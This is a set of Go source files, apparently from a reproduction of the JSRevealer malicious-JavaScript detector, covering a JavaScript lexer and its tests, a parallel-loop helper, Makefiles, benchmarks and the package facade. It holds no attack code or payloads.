		if l.pos >= len(l.src) || l.src[l.pos] == '\n' {
			return Token{}, l.errorf("unterminated regular expression")
		}
		c := l.src[l.pos]
		switch c {
		case '\\':
			l.advance(2)
			continue
		case '[':
			inClass = true
		case ']':
			inClass = false
		case '/':
			if !inClass {
				l.advance(1)
				// Flags.
				for l.pos < len(l.src) && isIdentPart(rune(l.src[l.pos])) {
					l.advance(1)
				}
				raw := l.src[start:l.pos]
				return Token{Kind: Regex, Literal: raw, Raw: raw}, nil
			}
		}
		l.advance(1)
	}
}

// puncts lists punctuators longest-first so maximal munch applies.
var puncts = []string{
	">>>=", "===", "!==", ">>>", "<<=", ">>=", "**=",
	"==", "!=", "<=", ">=", "&&", "||", "++", "--",
	"+=", "-=", "*=", "/=", "%=", "&=", "|=", "^=", "<<", ">>", "=>", "**",
	"{", "}", "(", ")", "[", "]", ";", ",", "<", ">", "+", "-", "*", "/",
	"%", "&", "|", "^", "!", "~", "?", ":", "=", ".",
}

func (l *Lexer) scanPunct() Token {
	rest := l.src[l.pos:]
	for _, p := range puncts {
		if strings.HasPrefix(rest, p) {
			l.advance(len(p))
			return Token{Kind: Punct, Literal: p, Raw: p}
		}
	}
	return Token{Kind: Punct}
}

func isDigit(c byte) bool { return c >= '0' && c <= '9' }

func isHexDigit(c byte) bool {
	return isDigit(c) || (c >= 'a' && c <= 'f') || (c >= 'A' && c <= 'F')
}

func hexVal(c byte) int {
	switch {
	case c >= '0' && c <= '9':
		return int(c - '0')
	case c >= 'a' && c <= 'f':
		return int(c-'a') + 10
	case c >= 'A' && c <= 'F':
		return int(c-'A') + 10
	default:
		return -1
	}
}

func isIdentStart(r rune) bool {
	return r == '$' || r == '_' || unicode.IsLetter(r)
}

func isIdentPart(r rune) bool {
	return isIdentStart(r) || unicode.IsDigit(r)
}
