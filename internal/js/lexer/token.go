// Package lexer tokenizes JavaScript source code.
//
// It covers the ES5 grammar plus the ES2015 pieces the corpus and the
// obfuscators emit (let/const, template literals without substitutions).
// The lexer tracks enough context to disambiguate division from regular
// expression literals and records line breaks so the parser can apply
// automatic semicolon insertion.
package lexer

import "fmt"

// Kind classifies a token.
type Kind int

// Token kinds, starting at one so the zero value is invalid.
const (
	EOF Kind = iota + 1
	Ident
	Keyword
	Number
	String
	Template
	Regex
	Punct
)

var kindNames = map[Kind]string{
	EOF:      "EOF",
	Ident:    "Ident",
	Keyword:  "Keyword",
	Number:   "Number",
	String:   "String",
	Template: "Template",
	Regex:    "Regex",
	Punct:    "Punct",
}

// String returns the kind's name.
func (k Kind) String() string {
	if s, ok := kindNames[k]; ok {
		return s
	}
	return fmt.Sprintf("Kind(%d)", int(k))
}

// Token is a single lexical unit.
type Token struct {
	Kind Kind
	// Literal is the token's meaning: for Ident/Keyword the name, for
	// String/Template the decoded value, for Number the raw digits, for
	// Punct the operator text, for Regex the pattern plus flags.
	Literal string
	// Raw is the exact source text of the token.
	Raw string
	// Line and Col are the 1-based source position of the token start.
	Line, Col int
	// NewlineBefore records whether a line terminator appeared between the
	// previous token and this one (drives semicolon insertion).
	NewlineBefore bool
}

// String renders the token for diagnostics.
func (t Token) String() string {
	return fmt.Sprintf("%s(%q)@%d:%d", t.Kind, t.Literal, t.Line, t.Col)
}

// keywords is the set of reserved words recognized as Keyword tokens.
var keywords = map[string]bool{
	"break": true, "case": true, "catch": true, "continue": true,
	"debugger": true, "default": true, "delete": true, "do": true,
	"else": true, "finally": true, "for": true, "function": true,
	"if": true, "in": true, "instanceof": true, "new": true,
	"return": true, "switch": true, "this": true, "throw": true,
	"try": true, "typeof": true, "var": true, "void": true,
	"while": true, "with": true, "let": true, "const": true,
	"null": true, "true": true, "false": true,
}

// IsKeyword reports whether name is a reserved word.
func IsKeyword(name string) bool { return keywords[name] }
