package lexer

import (
	"errors"
	"strings"
	"testing"
)

// TestTokenizeLimit checks the token-count guard trips with its sentinel.
func TestTokenizeLimit(t *testing.T) {
	src := strings.Repeat("a ", 100)
	if _, err := TokenizeLimit(src, 10); !errors.Is(err, ErrTooManyTokens) {
		t.Errorf("want ErrTooManyTokens, got %v", err)
	}
	if toks, err := TokenizeLimit(src, 0); err != nil || len(toks) != 101 {
		t.Errorf("no limit: %d tokens, err %v", len(toks), err)
	}
}

// TestInvalidUTF8Terminates is the regression test for the lexer spinning
// forever on bytes that are neither ASCII nor valid UTF-8: it must error
// out, not emit empty tokens until memory is exhausted.
func TestInvalidUTF8Terminates(t *testing.T) {
	for _, src := range []string{
		"\xff\xfe",
		"var a = 1; \x80\x81",
		"\xf0\x28\x8c\x28",
		"var euro = 1; €",
	} {
		if _, err := Tokenize(src); err == nil {
			t.Errorf("Tokenize(%q): want error for non-identifier rune, got nil", src)
		}
	}
}

// FuzzLex asserts the lexer terminates on arbitrary bytes with tokens or an
// error — never a panic or an infinite loop.
func FuzzLex(f *testing.F) {
	f.Add("var x = 'str' + `tpl` + /re/gi; // comment")
	f.Add("\"unterminated")
	f.Add("`unterminated")
	f.Add("/* unterminated")
	f.Add("/unterminated")
	f.Add("0x")
	f.Add("1e")
	f.Add("\\u12")
	f.Add("\xff\xfe\x80")
	f.Add(strings.Repeat("\\x41", 500))
	f.Add("aé世b")
	f.Fuzz(func(t *testing.T, src string) {
		toks, err := TokenizeLimit(src, 1<<20)
		if err != nil {
			return
		}
		if len(toks) == 0 || toks[len(toks)-1].Kind != EOF {
			t.Fatalf("token stream not EOF-terminated (%d tokens)", len(toks))
		}
	})
}
