package lexer

import (
	"strings"
	"testing"
)

func kindsOf(t *testing.T, src string) []Token {
	t.Helper()
	toks, err := Tokenize(src)
	if err != nil {
		t.Fatalf("Tokenize(%q): %v", src, err)
	}
	if len(toks) == 0 || toks[len(toks)-1].Kind != EOF {
		t.Fatalf("Tokenize(%q): missing EOF terminator", src)
	}
	return toks[:len(toks)-1]
}

func TestIdentifiersAndKeywords(t *testing.T) {
	toks := kindsOf(t, "var foo = bar; function baz() {}")
	want := []struct {
		kind Kind
		lit  string
	}{
		{Keyword, "var"}, {Ident, "foo"}, {Punct, "="}, {Ident, "bar"},
		{Punct, ";"}, {Keyword, "function"}, {Ident, "baz"},
		{Punct, "("}, {Punct, ")"}, {Punct, "{"}, {Punct, "}"},
	}
	if len(toks) != len(want) {
		t.Fatalf("got %d tokens, want %d: %v", len(toks), len(want), toks)
	}
	for i, w := range want {
		if toks[i].Kind != w.kind || toks[i].Literal != w.lit {
			t.Errorf("token %d = %v, want %v %q", i, toks[i], w.kind, w.lit)
		}
	}
}

func TestDollarAndUnderscoreIdents(t *testing.T) {
	toks := kindsOf(t, "$fog$ _0x1a2b $élan")
	if len(toks) != 3 {
		t.Fatalf("got %d tokens: %v", len(toks), toks)
	}
	for _, tok := range toks {
		if tok.Kind != Ident {
			t.Errorf("%v: want Ident", tok)
		}
	}
}

func TestNumbers(t *testing.T) {
	cases := map[string]string{
		"42":      "42",
		"3.14":    "3.14",
		".5":      ".5",
		"1e3":     "1e3",
		"1.5e-2":  "1.5e-2",
		"0x1F":    "0x1F",
		"0XABCDE": "0XABCDE",
	}
	for src, want := range cases {
		toks := kindsOf(t, src)
		if len(toks) != 1 || toks[0].Kind != Number || toks[0].Literal != want {
			t.Errorf("Tokenize(%q) = %v, want one Number %q", src, toks, want)
		}
	}
}

func TestMalformedNumbers(t *testing.T) {
	for _, src := range []string{"0x", "1e", "1e+"} {
		if _, err := Tokenize(src); err == nil {
			t.Errorf("Tokenize(%q): expected error", src)
		}
	}
}

func TestStringEscapes(t *testing.T) {
	cases := map[string]string{
		`"hello"`:      "hello",
		`'single'`:     "single",
		`"a\nb"`:       "a\nb",
		`"tab\there"`:  "tab\there",
		`"\x41\x42"`:   "AB",
		`"A"`:          "A",
		`"q\"uote"`:    `q"uote`,
		`"back\\s"`:    `back\s`,
		`"\0"`:         "\x00",
		`'it\'s'`:      "it's",
		"`template x`": "template x",
	}
	for src, want := range cases {
		toks := kindsOf(t, src)
		if len(toks) != 1 || toks[0].Literal != want {
			t.Errorf("Tokenize(%s) literal = %q, want %q", src, toks[0].Literal, want)
		}
	}
}

func TestUnterminatedString(t *testing.T) {
	for _, src := range []string{`"abc`, `'abc`, "`abc", `"ab` + "\n" + `c"`} {
		if _, err := Tokenize(src); err == nil {
			t.Errorf("Tokenize(%q): expected error", src)
		}
	}
}

func TestRegexVersusDivision(t *testing.T) {
	// After an identifier, '/' is division.
	toks := kindsOf(t, "a / b")
	if toks[1].Kind != Punct || toks[1].Literal != "/" {
		t.Errorf("a / b: middle token %v, want division", toks[1])
	}
	// At expression start, '/' begins a regex.
	toks = kindsOf(t, "/ab+c/gi")
	if len(toks) != 1 || toks[0].Kind != Regex || toks[0].Literal != "/ab+c/gi" {
		t.Errorf("regex literal: %v", toks)
	}
	// After '=', a regex.
	toks = kindsOf(t, "x = /a[/]b/")
	last := toks[len(toks)-1]
	if last.Kind != Regex {
		t.Errorf("regex with slash in class: %v", last)
	}
	// After return keyword, a regex.
	toks = kindsOf(t, "return /x/")
	if toks[1].Kind != Regex {
		t.Errorf("return /x/: %v", toks[1])
	}
	// After ')' it is division.
	toks = kindsOf(t, "(a) / 2")
	if toks[3].Kind != Punct || toks[3].Literal != "/" {
		t.Errorf("(a) / 2: %v", toks[3])
	}
}

func TestComments(t *testing.T) {
	toks := kindsOf(t, "a // line comment\nb /* block */ c")
	if len(toks) != 3 {
		t.Fatalf("comments not skipped: %v", toks)
	}
	if !toks[1].NewlineBefore {
		t.Error("newline before b not recorded")
	}
	// Multiline block comment implies a newline.
	toks = kindsOf(t, "a /* x\ny */ b")
	if !toks[1].NewlineBefore {
		t.Error("newline inside block comment not recorded")
	}
}

func TestNewlineTracking(t *testing.T) {
	toks := kindsOf(t, "a\nb c")
	if !toks[1].NewlineBefore {
		t.Error("b should have NewlineBefore")
	}
	if toks[2].NewlineBefore {
		t.Error("c should not have NewlineBefore")
	}
}

func TestPunctuatorMaximalMunch(t *testing.T) {
	cases := map[string][]string{
		"===":   {"==="},
		"==!":   {"==", "!"},
		">>>=":  {">>>="},
		"a+++b": {"a", "++", "+", "b"},
		"a>>>2": {"a", ">>>", "2"},
		"x<<=1": {"x", "<<=", "1"},
		"p=>q":  {"p", "=>", "q"},
		"a**b":  {"a", "**", "b"},
		"!==x":  {"!==", "x"},
	}
	for src, want := range cases {
		toks := kindsOf(t, src)
		if len(toks) != len(want) {
			t.Errorf("Tokenize(%q) = %v, want %v", src, toks, want)
			continue
		}
		for i, w := range want {
			if toks[i].Literal != w {
				t.Errorf("Tokenize(%q)[%d] = %q, want %q", src, i, toks[i].Literal, w)
			}
		}
	}
}

func TestPositions(t *testing.T) {
	toks := kindsOf(t, "a\n  bb")
	if toks[0].Line != 1 || toks[0].Col != 1 {
		t.Errorf("a at %d:%d, want 1:1", toks[0].Line, toks[0].Col)
	}
	if toks[1].Line != 2 || toks[1].Col != 3 {
		t.Errorf("bb at %d:%d, want 2:3", toks[1].Line, toks[1].Col)
	}
}

func TestSyntaxErrorPosition(t *testing.T) {
	_, err := Tokenize("var x = \"abc")
	if err == nil {
		t.Fatal("expected error")
	}
	var se *SyntaxError
	if !asSyntaxError(err, &se) {
		t.Fatalf("error type %T, want *SyntaxError", err)
	}
	if se.Line != 1 {
		t.Errorf("error line = %d, want 1", se.Line)
	}
	if !strings.Contains(se.Error(), "unterminated") {
		t.Errorf("error message %q", se.Error())
	}
}

func asSyntaxError(err error, target **SyntaxError) bool {
	se, ok := err.(*SyntaxError)
	if ok {
		*target = se
	}
	return ok
}

func TestIsKeyword(t *testing.T) {
	for _, kw := range []string{"var", "function", "typeof", "instanceof", "null", "true"} {
		if !IsKeyword(kw) {
			t.Errorf("IsKeyword(%q) = false", kw)
		}
	}
	for _, id := range []string{"foo", "let1", "undefined", "document"} {
		if IsKeyword(id) {
			t.Errorf("IsKeyword(%q) = true", id)
		}
	}
}

func TestKindString(t *testing.T) {
	if EOF.String() != "EOF" || Ident.String() != "Ident" {
		t.Error("Kind.String misnamed")
	}
	if Kind(99).String() == "" {
		t.Error("unknown kind should still render")
	}
}

func TestLineContinuation(t *testing.T) {
	toks := kindsOf(t, "\"ab\\\ncd\"")
	if toks[0].Literal != "abcd" {
		t.Errorf("line continuation literal = %q, want abcd", toks[0].Literal)
	}
}
