package par

import (
	"context"
	"strings"
	"sync/atomic"
	"testing"
)

func TestForRunsEveryIndexOnce(t *testing.T) {
	for _, workers := range []int{1, 2, 4, 16} {
		n := 1000
		counts := make([]int32, n)
		For(workers, n, func(i int) { atomic.AddInt32(&counts[i], 1) })
		for i, c := range counts {
			if c != 1 {
				t.Fatalf("workers=%d: index %d ran %d times", workers, i, c)
			}
		}
	}
}

func TestForDeterministicResults(t *testing.T) {
	// fn writes only to slot i; results must be identical at any worker count.
	n := 500
	ref := make([]float64, n)
	For(1, n, func(i int) { ref[i] = float64(i) * 1.5 })
	for _, workers := range []int{2, 3, 8} {
		got := make([]float64, n)
		For(workers, n, func(i int) { got[i] = float64(i) * 1.5 })
		for i := range got {
			if got[i] != ref[i] {
				t.Fatalf("workers=%d: slot %d = %v, want %v", workers, i, got[i], ref[i])
			}
		}
	}
}

func TestForCtxCancellation(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	var ran int32
	err := ForCtx(ctx, 4, 100000, func(i int) {
		if atomic.AddInt32(&ran, 1) == 10 {
			cancel()
		}
	})
	if err == nil {
		t.Fatal("ForCtx did not return the cancellation error")
	}
	if n := atomic.LoadInt32(&ran); n >= 100000 {
		t.Fatalf("cancellation did not stop dispatch (ran %d)", n)
	}
}

func TestForCtxPreCancelled(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	var ran int32
	if err := ForCtx(ctx, 2, 50, func(i int) { atomic.AddInt32(&ran, 1) }); err == nil {
		t.Fatal("pre-cancelled context not reported")
	}
}

func TestForPanicPropagation(t *testing.T) {
	for _, workers := range []int{1, 4} {
		func() {
			defer func() {
				r := recover()
				if r == nil {
					t.Fatalf("workers=%d: panic was swallowed", workers)
				}
				if !strings.Contains(r.(string), "boom") {
					t.Fatalf("workers=%d: panic payload lost: %v", workers, r)
				}
			}()
			For(workers, 100, func(i int) {
				if i == 42 {
					panic("boom")
				}
			})
		}()
	}
}

func TestForZeroAndNegativeN(t *testing.T) {
	For(4, 0, func(i int) { t.Fatal("fn called for n=0") })
	For(4, -3, func(i int) { t.Fatal("fn called for n<0") })
}

func TestWorkersNormalization(t *testing.T) {
	if Workers(0) < 1 || Workers(-5) < 1 {
		t.Fatal("Workers must normalize non-positive values to >= 1")
	}
	if Workers(7) != 7 {
		t.Fatal("Workers must pass positive values through")
	}
}
