// Package par provides the deterministic fork-join parallelism primitive
// shared by the training pipeline: a bounded worker pool that fans a loop
// body out over indices while guaranteeing that the result is independent
// of the worker count.
//
// Determinism contract: For and ForCtx promise only *which goroutine* runs
// an index is unspecified — every index in [0, n) runs exactly once (For)
// or until cancellation (ForCtx). As long as fn(i) reads shared state that
// is frozen for the duration of the loop and writes only to index-i slots,
// the outcome is bit-identical at any worker count. All of the pipeline's
// parallel stages (path extraction, per-sample gradients, outlier scoring,
// K-Means assignment) are written in that shape.
package par

import (
	"context"
	"fmt"
	"runtime"
	"sync"
	"sync/atomic"
)

// Workers normalizes a worker-count knob: values <= 0 select
// runtime.NumCPU(), everything else is returned unchanged.
func Workers(n int) int {
	if n <= 0 {
		return runtime.NumCPU()
	}
	return n
}

// For runs fn(i) for every i in [0, n), spread over at most workers
// goroutines (<= 0 selects runtime.NumCPU()). Indices are handed out by an
// atomic counter, so the schedule is work-stealing but every index runs
// exactly once. For blocks until all indices are done. A panic inside fn is
// re-raised on the calling goroutine (first one wins) after the pool has
// drained, so callers see ordinary panic semantics instead of a crashed
// worker.
func For(workers, n int, fn func(i int)) {
	_ = ForCtx(context.Background(), workers, n, fn)
}

// ForCtx is For with cooperative cancellation: once ctx is done, workers
// stop picking up new indices and ForCtx returns ctx.Err(). Indices already
// dispatched run to completion, so on a nil error every index ran; on a
// non-nil error a prefix-free subset ran and the caller must discard the
// partial results.
func ForCtx(ctx context.Context, workers, n int, fn func(i int)) error {
	if n <= 0 {
		return ctx.Err()
	}
	workers = Workers(workers)
	if workers > n {
		workers = n
	}
	if workers == 1 {
		// Serial fast path: same observable behaviour, no goroutines.
		for i := 0; i < n; i++ {
			if err := ctx.Err(); err != nil {
				return err
			}
			fn(i)
		}
		return nil
	}
	var (
		next     int64
		wg       sync.WaitGroup
		panicked atomic.Value
	)
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for {
				i := int(atomic.AddInt64(&next, 1)) - 1
				if i >= n || ctx.Err() != nil || panicked.Load() != nil {
					return
				}
				func() {
					defer func() {
						if r := recover(); r != nil {
							// CompareAndSwap-free: Store races are benign,
							// any stored panic is a real one to re-raise.
							panicked.Store(capturedPanic{r})
						}
					}()
					fn(i)
				}()
			}
		}()
	}
	wg.Wait()
	if p := panicked.Load(); p != nil {
		panic(fmt.Sprintf("par: worker panic: %v", p.(capturedPanic).value))
	}
	return ctx.Err()
}

// capturedPanic wraps a recovered value so atomic.Value never sees
// inconsistently-typed stores.
type capturedPanic struct{ value any }
