.PHONY: build test check fuzz

build:
	go build ./...

test:
	go test ./...

# The full verification gate: go vet, a clean build, the full test suite,
# and a race-detector pass (see scripts/check.sh for scope).
check:
	sh scripts/check.sh

# Bounded fuzzing budgets for the robustness targets.
fuzz:
	go test -fuzz=FuzzLex -fuzztime=30s ./internal/js/lexer/
	go test -fuzz=FuzzParse -fuzztime=30s ./internal/js/parser/
	go test -fuzz=FuzzDetect -fuzztime=30s ./internal/scan/
