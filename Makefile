.PHONY: build test check fuzz bench bench-compare bench-rebaseline

build:
	go build ./...

test:
	go test ./...

# The full verification gate: go vet, the doc-coverage gate
# (scripts/doccheck.sh — no undocumented exports in core/scan/serve/par),
# a clean build, the full test suite, a race-detector pass, and a
# `jsrevealer serve` smoke test against /healthz and /metrics (see
# scripts/check.sh for scope).
check:
	sh scripts/check.sh

# Hot-path benchmarks across scan/nn/pathctx/detect plus the parallel
# training fit; each run is recorded (with git SHA and timestamp) into
# BENCH_scan.json alongside earlier runs.
bench:
	sh scripts/bench.sh

# Diff the newest recorded benchmark run against the recorded baseline;
# fails when any shared benchmark regresses allocs/op by more than 10%.
bench-compare:
	go run ./cmd/benchcompare compare -file BENCH_scan.json

# Promote the newest recorded run to the comparison baseline. Run this after
# an intentional perf-profile change (or to discard a noisy first run) so
# bench-compare gates against the new steady state.
bench-rebaseline:
	go run ./cmd/benchcompare rebaseline -file BENCH_scan.json

# Bounded fuzzing budgets for the robustness targets.
fuzz:
	go test -fuzz=FuzzLex -fuzztime=30s ./internal/js/lexer/
	go test -fuzz=FuzzParse -fuzztime=30s ./internal/js/parser/
	go test -fuzz=FuzzDetect -fuzztime=30s ./internal/scan/
	go test -fuzz=FuzzTriage -fuzztime=30s ./internal/triage/
	go test -fuzz=FuzzDeobfuscate -fuzztime=30s ./internal/deobfuscate/
	go test -fuzz=FuzzDecodeRecord -fuzztime=30s ./internal/queue/
	go test -fuzz=FuzzReplaySegment -fuzztime=30s ./internal/queue/
