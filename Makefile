.PHONY: build test check fuzz bench

build:
	go build ./...

test:
	go test ./...

# The full verification gate: go vet, a clean build, the full test suite,
# a race-detector pass, and a `jsrevealer serve` smoke test against
# /healthz and /metrics (see scripts/check.sh for scope).
check:
	sh scripts/check.sh

# Scan-engine benchmarks; results land in BENCH_scan.json.
bench:
	sh scripts/bench.sh

# Bounded fuzzing budgets for the robustness targets.
fuzz:
	go test -fuzz=FuzzLex -fuzztime=30s ./internal/js/lexer/
	go test -fuzz=FuzzParse -fuzztime=30s ./internal/js/parser/
	go test -fuzz=FuzzDetect -fuzztime=30s ./internal/scan/
