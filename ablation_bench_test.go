package jsrevealer_test

import (
	"testing"

	"jsrevealer/internal/core"
	"jsrevealer/internal/corpus"
	"jsrevealer/internal/ml/metrics"
	"jsrevealer/internal/obfuscate"
)

// Ablation benchmarks for the design choices DESIGN.md calls out: the
// enhanced AST vs the regular AST, attention weights vs uniform weights,
// and the individual transformations inside JavaScript-Obfuscator. Each
// benchmark reports the resulting F1 as a custom metric so `go test
// -bench=Ablation` prints the quality impact alongside the cost.

// ablationSplit builds one deterministic train/test partition.
func ablationSplit() ([]core.Sample, []corpus.Sample) {
	samples := corpus.Generate(corpus.Config{Benign: 80, Malicious: 80, Seed: 42})
	var train []core.Sample
	var test []corpus.Sample
	for i, s := range samples {
		if i%4 == 3 {
			test = append(test, s)
		} else {
			train = append(train, core.Sample{Source: s.Source, Malicious: s.Malicious})
		}
	}
	return train, test
}

// ablationOptions shrinks the pipeline to benchmark scale.
func ablationOptions() core.Options {
	opts := core.DefaultOptions()
	opts.Embedding.Epochs = 5
	opts.Path.MaxPaths = 600
	opts.MaxPoolPerClass = 1200
	return opts
}

// evalF1 trains with the options and returns F1 on the (optionally
// obfuscated) test set.
func evalF1(b *testing.B, opts core.Options, ob obfuscate.Obfuscator) float64 {
	b.Helper()
	train, test := ablationSplit()
	det, err := core.Train(train, nil, opts)
	if err != nil {
		b.Fatal(err)
	}
	var c metrics.Confusion
	for _, s := range test {
		src := s.Source
		if ob != nil {
			if out, err := ob.Obfuscate(src); err == nil {
				src = out
			}
		}
		pred, err := det.Detect(src)
		if err != nil {
			pred = false
		}
		c.Add(s.Malicious, pred)
	}
	return metrics.ReportOf(c).F1
}

// BenchmarkAblationEnhancedAST measures the enhanced AST (the paper's
// configuration) under Jshaman obfuscation.
func BenchmarkAblationEnhancedAST(b *testing.B) {
	for i := 0; i < b.N; i++ {
		f1 := evalF1(b, ablationOptions(), &obfuscate.Jshaman{Seed: 9})
		b.ReportMetric(f1, "F1%")
	}
}

// BenchmarkAblationRegularAST measures the regular-AST ablation (Table IV's
// second block) under the same obfuscation.
func BenchmarkAblationRegularAST(b *testing.B) {
	for i := 0; i < b.N; i++ {
		opts := core.RegularASTOptions()
		opts.Embedding.Epochs = 5
		opts.Path.MaxPaths = 600
		opts.MaxPoolPerClass = 1200
		f1 := evalF1(b, opts, &obfuscate.Jshaman{Seed: 9})
		b.ReportMetric(f1, "F1%")
	}
}

// BenchmarkAblationAttentionWeights measures the paper's attention-weighted
// features.
func BenchmarkAblationAttentionWeights(b *testing.B) {
	for i := 0; i < b.N; i++ {
		f1 := evalF1(b, ablationOptions(), &obfuscate.JavaScriptObfuscator{Seed: 9})
		b.ReportMetric(f1, "F1%")
	}
}

// BenchmarkAblationUniformWeights replaces attention weights with uniform
// per-path mass.
func BenchmarkAblationUniformWeights(b *testing.B) {
	for i := 0; i < b.N; i++ {
		opts := ablationOptions()
		opts.UniformWeights = true
		f1 := evalF1(b, opts, &obfuscate.JavaScriptObfuscator{Seed: 9})
		b.ReportMetric(f1, "F1%")
	}
}

// BenchmarkAblationJSOFull measures detection under the full
// JavaScript-Obfuscator.
func BenchmarkAblationJSOFull(b *testing.B) {
	for i := 0; i < b.N; i++ {
		f1 := evalF1(b, ablationOptions(), &obfuscate.JavaScriptObfuscator{Seed: 11})
		b.ReportMetric(f1, "F1%")
	}
}

// BenchmarkAblationJSONoFlattening disables control-flow flattening.
func BenchmarkAblationJSONoFlattening(b *testing.B) {
	for i := 0; i < b.N; i++ {
		ob := &obfuscate.JavaScriptObfuscator{Seed: 11, DisableFlattening: true}
		f1 := evalF1(b, ablationOptions(), ob)
		b.ReportMetric(f1, "F1%")
	}
}

// BenchmarkAblationJSONoDeadCode disables dead-code injection.
func BenchmarkAblationJSONoDeadCode(b *testing.B) {
	for i := 0; i < b.N; i++ {
		ob := &obfuscate.JavaScriptObfuscator{Seed: 11, DisableDeadCode: true}
		f1 := evalF1(b, ablationOptions(), ob)
		b.ReportMetric(f1, "F1%")
	}
}
