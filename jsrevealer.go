// Package jsrevealer is a Go reproduction of "JSRevealer: A Robust
// Malicious JavaScript Detector against Obfuscation" (DSN 2023).
//
// The package is a thin facade over the internal pipeline: it re-exports
// the detector, its options, and the training entry points so downstream
// users work with one import path.
//
//	det, err := jsrevealer.Train(trainingSamples, nil, jsrevealer.DefaultOptions())
//	verdict, err := det.Detect(src) // true = malicious
//
// The building blocks live in internal packages: internal/js/* (lexer,
// parser, printer, data flow, CFG, PDG), internal/pathctx (path contexts),
// internal/ml/* (embedding network, clustering, outlier detection,
// classifiers, metrics), internal/obfuscate (the four evaluation
// obfuscators), internal/corpus (the synthetic dataset), and
// internal/baselines (CUJO, ZOZZLE, JAST, JSTAP).
package jsrevealer

import (
	"jsrevealer/internal/core"
	"jsrevealer/internal/scan"
)

// Sample is one labelled training script.
type Sample = core.Sample

// Options configures the detection pipeline.
type Options = core.Options

// Detector is a trained JSRevealer instance.
type Detector = core.Detector

// Feature is one learned cluster feature.
type Feature = core.Feature

// ImportantFeature pairs a feature with its random-forest importance.
type ImportantFeature = core.ImportantFeature

// DefaultOptions returns the paper's configuration: enhanced AST, K=11/10,
// FastABOD-selected outlier removal, random forest.
func DefaultOptions() Options { return core.DefaultOptions() }

// RegularASTOptions returns the Table IV ablation configuration (no data
// flow; K=5/6).
func RegularASTOptions() Options { return core.RegularASTOptions() }

// Train builds a detector from labelled samples. pretrain supplies the
// embedding pre-training corpus; nil reuses the training set.
func Train(train, pretrain []Sample, opts Options) (*Detector, error) {
	return core.Train(train, pretrain, opts)
}

// Load reads a detector previously written with Detector.Save.
func Load(path string) (*Detector, error) { return core.Load(path) }

// Scanner is the hardened bulk-scanning engine: a worker pool that
// classifies untrusted files with panic isolation, per-file deadlines,
// input-size/token/recursion guards, and graceful degradation to a cheap
// lexical heuristic when the full pipeline cannot run.
type Scanner = scan.Engine

// ScanConfig bounds a Scanner: worker count, per-file timeout, byte/token/
// depth caps, and the degradation fallback.
type ScanConfig = scan.Config

// ScanResult is one file's outcome: verdict, structured error, size, and
// classification latency.
type ScanResult = scan.Result

// ScanStats aggregates a scan: scanned/flagged/degraded/failed counts, wall
// time, and p50/p99 per-file latency.
type ScanStats = scan.Stats

// ScanVerdict is the per-file outcome class.
type ScanVerdict = scan.Verdict

// Per-file outcome classes reported by the Scanner.
const (
	VerdictBenign    = scan.VerdictBenign
	VerdictMalicious = scan.VerdictMalicious
	VerdictDegraded  = scan.VerdictDegraded
	VerdictFailed    = scan.VerdictFailed
)

// Structured scan-error taxonomy; match with errors.Is on ScanResult.Err.
var (
	ErrScanParse      = scan.ErrParse
	ErrScanDepthLimit = scan.ErrDepthLimit
	ErrScanTimeout    = scan.ErrTimeout
	ErrScanTooLarge   = scan.ErrTooLarge
	ErrScanInternal   = scan.ErrInternal
)

// ScanReason maps a ScanResult.Err onto its taxonomy label ("parse",
// "timeout", "too_large", "depth_limit", "internal"; "" for nil) — the
// same label the scan error metrics and ScanStats use.
func ScanReason(err error) string { return scan.Reason(err) }

// NewScanner wraps a trained detector in the hardened scan engine. A zero
// ScanConfig applies the defaults (GOMAXPROCS workers, 10s deadline, 10MB
// size cap, lexical-heuristic fallback).
func NewScanner(det *Detector, cfg ScanConfig) *Scanner { return scan.New(det, cfg) }
