// Package jsrevealer is a Go reproduction of "JSRevealer: A Robust
// Malicious JavaScript Detector against Obfuscation" (DSN 2023).
//
// The package is a thin facade over the internal pipeline: it re-exports
// the detector, its options, and the training entry points so downstream
// users work with one import path.
//
//	det, err := jsrevealer.Train(trainingSamples, nil, jsrevealer.DefaultOptions())
//	verdict, err := det.Detect(src) // true = malicious
//
// The building blocks live in internal packages: internal/js/* (lexer,
// parser, printer, data flow, CFG, PDG), internal/pathctx (path contexts),
// internal/ml/* (embedding network, clustering, outlier detection,
// classifiers, metrics), internal/obfuscate (the four evaluation
// obfuscators), internal/corpus (the synthetic dataset), and
// internal/baselines (CUJO, ZOZZLE, JAST, JSTAP).
package jsrevealer

import (
	"jsrevealer/internal/core"
)

// Sample is one labelled training script.
type Sample = core.Sample

// Options configures the detection pipeline.
type Options = core.Options

// Detector is a trained JSRevealer instance.
type Detector = core.Detector

// Feature is one learned cluster feature.
type Feature = core.Feature

// ImportantFeature pairs a feature with its random-forest importance.
type ImportantFeature = core.ImportantFeature

// DefaultOptions returns the paper's configuration: enhanced AST, K=11/10,
// FastABOD-selected outlier removal, random forest.
func DefaultOptions() Options { return core.DefaultOptions() }

// RegularASTOptions returns the Table IV ablation configuration (no data
// flow; K=5/6).
func RegularASTOptions() Options { return core.RegularASTOptions() }

// Train builds a detector from labelled samples. pretrain supplies the
// embedding pre-training corpus; nil reuses the training set.
func Train(train, pretrain []Sample, opts Options) (*Detector, error) {
	return core.Train(train, pretrain, opts)
}

// Load reads a detector previously written with Detector.Save.
func Load(path string) (*Detector, error) { return core.Load(path) }
