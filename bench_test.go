package jsrevealer_test

import (
	"testing"

	"jsrevealer/internal/core"
	"jsrevealer/internal/corpus"
	"jsrevealer/internal/experiments"
	"jsrevealer/internal/js/parser"
	"jsrevealer/internal/ml/cluster"
	"jsrevealer/internal/obfuscate"
	"jsrevealer/internal/pathctx"
)

// benchConfig sizes the per-table benchmarks. Each benchmark regenerates a
// scaled-down version of its table/figure so `go test -bench=.` reproduces
// every evaluation artifact; cmd/experiments runs the full-size versions.
func benchConfig() experiments.Config {
	return experiments.Config{TrainPerClass: 60, TestPerClass: 20, Repetitions: 1, Seed: 42}
}

// BenchmarkTable1Dataset regenerates the corpus-composition table.
func BenchmarkTable1Dataset(b *testing.B) {
	for i := 0; i < b.N; i++ {
		res := experiments.Table1(benchConfig())
		if len(res.Rows) != 12 {
			b.Fatalf("rows = %d", len(res.Rows))
		}
	}
}

// BenchmarkTable2Classifiers regenerates the classifier comparison.
func BenchmarkTable2Classifiers(b *testing.B) {
	for i := 0; i < b.N; i++ {
		res, err := experiments.Table2(benchConfig())
		if err != nil {
			b.Fatal(err)
